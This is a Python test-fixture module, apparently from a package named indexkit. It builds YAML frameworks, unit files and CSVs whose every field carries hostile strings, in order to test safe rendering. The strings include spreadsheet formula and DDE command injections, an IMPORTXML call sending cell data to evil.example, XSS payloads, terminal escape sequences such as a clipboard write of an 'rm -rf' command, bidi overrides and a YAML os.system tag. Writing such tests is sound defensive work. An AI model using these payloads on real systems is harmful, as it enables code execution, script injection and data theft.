"""Texts that somebody may put into a name, a note or a quote so that whoever reads it comes to harm, and files full of
them: a framework whose every part bears one, and units."""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from pathlib import Path

from indexkit.problems import harmless
from indexkit.yaml_text import scalar

STRINGS: dict[str, str] = {
    # spreadsheets
    "formula": "=1+1",
    "formula, command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1|e5",
    "at": "@SUM(1,1)",
    "hyperlink": '=HYPERLINK("http://evil.example","e7")',
    "exchange": '=DDE("cmd";"/C calc";"e8")',
    "import of data": '=IMPORTXML(CONCAT("//evil.example/",A1),"//e9")',
    "apostrophe": "'=1+1 e10",
    "semicolon": 'e11;=1+1;"',
    "escape of letters": "e12_x0041_\u00e9",
    "wide equals sign": "＝1+1 e13",
    # web pages
    "script": "a1<script>alert(1)</script>",
    "image": "a2\"><img src=x onerror='alert(1)'>",
    "attribute": "a3' onmouseover='alert(1)' x='",
    "attribute without quotes": "a4 onfocus=alert(1) autofocus",
    "end of title": "a5</title><script>alert(1)</script>",
    "end of style": "a6</style><style>*{display:none}</style>",
    "end of svg": "a7</text></svg><svg onload=alert(1)>",
    "drawing": "a8<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "comment": "a9<!--",
    "end of comment": "a10-->",
    "data section": "a11]]>",
    "doctype": "a12<!DOCTYPE html>",
    "instruction": 'a13<?xml version="1.0"?>',
    "entity": "a14&lt;script&gt;&#x3c;&amp;&nbsp;",
    "half a tag": "a15<a href=",
    "frame": "a16<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "base": "a17<base href=//evil.example/>",
    "refresh": "a18<meta http-equiv=refresh content='0;url=//evil.example'>",
    "link of script": 'a19<a href="javascript:alert(1)">x</a>',
    "hidden tag": "a20<scr\u200bipt>alert(1)</scr\u200bipt>",
    "style": "a21;background:url(//evil.example/x)}body{color:red",
    "import": "a22@import '//evil.example/x.css';",
    "template": "a23{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "format": "a24{0}{points}%s%(x)s",
    "form": "a25<form action=//evil.example><input name=q>",
    # terminals
    "colour": "b1\x1b[31mđỏ\x1b[0m",
    "clearing": "b2\x1b[2J\x1b[H",
    "title of window": "b3\x1b]0;tên\x07",
    "link": "b4\x1b]8;;http://evil.example\x1b\\bấm\x1b]8;;\x1b\\",
    "clipboard": "b5\x1b]52;c;cm0gLXJm\x07",
    "second set": "b6\x9b2Jxóa",
    "second set, command": "b7\x9d0;x\x9c",
    "return": "b8đạt\rkhông đạt",
    "backspace": "b9ab\x08\x08cd",
    "bell": "b10\x07",
    "null": "b11a\x00b",
    "delete": "b12a\x7fb",
    "vertical tab": "b13a\x0bb\x0cc",
    # lines and blanks
    "lines": "c1một\nhai",
    "line separators": "c2một\u2028hai\u2029ba\x85bốn",
    "windows line": "c3một\r\nhai",
    "tab": "c4a\tb",
    "no-break space": "c5a\u00a0b",
    "wide space": "c6a\u3000b",
    "blank letters": "c7a\u3164b\u2800c",
    "tabs in front": "\tc8",
    "return in front": "\rc9",
    # directions and what is not seen
    "override": "d1\u202e001 = gnổt\u202c",
    "embedding": "d2\u202bمرحبا\u202c",
    "isolates": "d3\u2066a\u2067b\u2068c\u2069",
    "marks": "d4\u200e\u200f\u061c",
    "zero width": "d5a\u200bb\u200cc\u200dd\u2060e",
    "byte order mark": "d6\ufeffa",
    "soft hyphen": "d7a\u00adb",
    "arabic": "d8مرحبا بالعالم",
    "tag letters": "d9a\U000e0041\U000e0042b",
    "variation": "d10a\ufe0fb",
    "noncharacter": "d11a\ufdd0b",
    "private": "d12a\ue000b",
    "unassigned": "d13a\U0003ffffb",
    # Markdown
    "link in brackets": "[f1](javascript:alert(1))",
    "picture": "![f2](//evil.example/x.png)",
    "reference": "f3[x]\n\n[x]: javascript:alert(1)",
    "heading": "# f4",
    "quote": "> f5",
    "list": "- f6",
    "numbers": "1. f7",
    "code": "f8`x``y```z",
    "fence": "```\nf9",
    "table": "f10 | x | y",
    "rule": "---f11",
    "emphasis": "f12 **x** _y_ ~~z~~",
    "automatic link": "f13<http://evil.example>",
    "html in it": "f14<details open>",
    "backslash": "f15\\|\\`\\<x",
    # YAML and JSON
    "key": "g1: x",
    "comment in it": "g2 # x",
    "anchor": "&g3 *g3 !!python/object/apply:os.system ['x']",
    "list in it": "- g4: [x, {y",
    "document": "---\ng5: 1\n...",
    "block": "|\n g6",
    "quotes": "g7\" ' \\",
    "json": 'g8", "x": {"y": [1',
    "json escapes": "g9\\u0041\\n\\x41",
    "a truth": "no",
    "nothing at all": "null",
    "a date": "2024-01-01",
    "time": "12:30:59",
    "octal": "0o17",
    "exponent": "1e3",
    # letters
    "flood of marks": "h1a" + "\u0301\u0323" * 60 + "b",
    "emoji": "h2👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",
    "composed": "h3Tiếng Việt",
    "decomposed": unicodedata.normalize("NFD", "h4Tiếng Việt"),
    "lookalike": "h5Тốt",
    "long word": "h6" + "x" * 300,
    "long": "h7" + " chữ" * 100,
    "wide letters": "h8" + "漢" * 60,
    "ligature": "h9\ufdfa\ufdfa",
    "kelvin": "h10\u212a",
    "digits": "h11١٢٣",
}
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u2028\u2029]")
IN_FILES = {kind: text for kind, text in STRINGS.items() if not _CONTROL.search(text)}
"""Those that a file may hold; the others can only come from a program."""
CLEAN = {kind: f"t{at}" + " chữ" * (len(text) // 4) for at, (kind, text) in enumerate(IN_FILES.items())}
"""As many harmless ones, about as long."""


def squashed(text: str) -> str:
    """What can be seen of it, wherever its lines are broken."""
    return re.sub(r"\s", "", harmless(text))


def paired(texts: dict[str, str]) -> list[str]:
    """Two in one, so that a framework with all of them is quick to read; half of them stand first."""
    listed = list(texts.values())
    half = -(-len(listed) // 2)
    pairs = zip(listed[:half], [*listed[half:], ""], strict=False)
    return [f"{one} {other}" if at % 2 else f"{other} {one}" for at, (one, other) in enumerate(pairs)]


_HEAD = """\
indexkit: 1
framework: nho
revision: 1
name: "Bộ"
issued_by: {decision: 1/QĐ-UBND, date: 2024-01-01}
in_force: {from: 2024-01-01}
applies_to: {periods_from: 2024}
rules: {rounding: none, missing_evidence: zero}
"""


def framework(texts: dict[str, str]) -> str:
    """Every text stands in the name of an indicator, in quotes, notes, options, levels and open points."""
    named = [scalar(text, flow=True) for text in paired(texts)]
    lines = [_HEAD, f"unverified: [{', '.join(named)}]", "groups:", "  g:", f"    max: {len(named)}", "    indicators:"]
    for at, name in enumerate(named):
        other, third = named[(at + 1) % len(named)], named[(at + 2) % len(named)]
        cite = f"{{document: {other}, section: {third}, quote: {name}, note: {other}}}"
        options = f"{{tot: {other}, kem: {third}}}"
        lines += [
            f"      n{at}: {{name: {name}, max: 1, basis: assumed, cite: {cite}, score: {{kind: choice, of: i{at}, "
            f"options: {{tot: 1, kem: 0}}}}, evidence: {{i{at}: {{type: choice, name: {third}, options: {options}, "
            f"proof: {name}}}}}}}"
        ]
    rows = [f"{{name: {name}, at_least: {90 - at}}}" for at, name in enumerate(named[:80])]
    return "\n".join([*lines, f"    levels: {{of: percent, bands: [{', '.join(rows)}, {{name: Kém}}]}}", ""])


def unit(texts: dict[str, str], name: str, period: int, mark: int) -> str:
    """A unit whose evidence has notes, sources and reasons; its total depends on `mark`."""
    listed, lines = paired(texts), []
    for at, text in enumerate(listed):
        other, value = scalar(listed[at - 1], flow=True), "tot" if at % 7 < mark else "kem"
        state = ("claimed", "verified")[at % 2]
        own = f"{{value: {value}, state: {state}, source: {scalar(text, flow=True)}, note: {other}}}"
        lines.append(f"  i{at}: {own}")
    panel = scalar(listed[0], flow=True)
    lines.append(f'  n{len(listed) - 1}: {{points: 1, by: {panel}, "on": 2024-03-01, why: {panel}}}')
    return f"unit: {scalar(name)}\ngroup: g\nperiod: {period}\nevidence:\n" + "\n".join(lines) + "\n"


def write_world(folder: Path, texts: dict[str, str], units: int) -> None:
    """`khung.yaml`, and in `moi/` one with the same texts in other places; folders of units for 2024 and 2025;
    published figures; claims."""
    (folder / "khung.yaml").write_text(framework(texts), encoding="utf-8")
    (folder / "moi").mkdir()
    (folder / "moi" / "khung.yaml").write_text(framework(dict(reversed(texts.items()))), encoding="utf-8")
    names = list(texts.values())
    for year in (2024, 2025):
        (folder / str(year)).mkdir()
        for at in range(units):
            # each unit's id is made of several texts, so that few units hold them all
            name = " ".join(names[at::units])
            text = unit(texts, name, year, (at + year) % 7)
            (folder / str(year) / f"u{at}.yaml").write_text(text, encoding="utf-8")
    ids = [" ".join(names[at::units]) for at in range(units)]
    _write_rows(folder / "published.csv", [("unit", "total"), *((one, str(at)) for at, one in enumerate(ids))])
    given = [(one, "2024", "tot", "kem") for one in ids]
    _write_rows(folder / "units.csv", [("unit", "period", "i0", "i1"), *given])
    (folder / "claims.yaml").write_text(_claims(names), encoding="utf-8")


def _write_rows(path: Path, rows: Iterable[tuple[str, ...]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


def _claims(names: list[str]) -> str:
    named = [scalar(name, flow=True) for name in names]
    figures = [f"  f{at}: {{name: {name}, figures: {{2020: 1, 2021: 2}}}}" for at, name in enumerate(named)]
    said = [f"  s{at}: {{says: {name}, of: f{at}, from: 2020, to: 2021, change: 2}}" for at, name in enumerate(named)]
    head = f"indexkit: 1\nclaims: nho\nname: Nhỏ\nsource: {{document: {named[0]}, note: {named[1]}}}"
    return "\n".join([head, "figures:", *figures, "statements:", *said, ""])
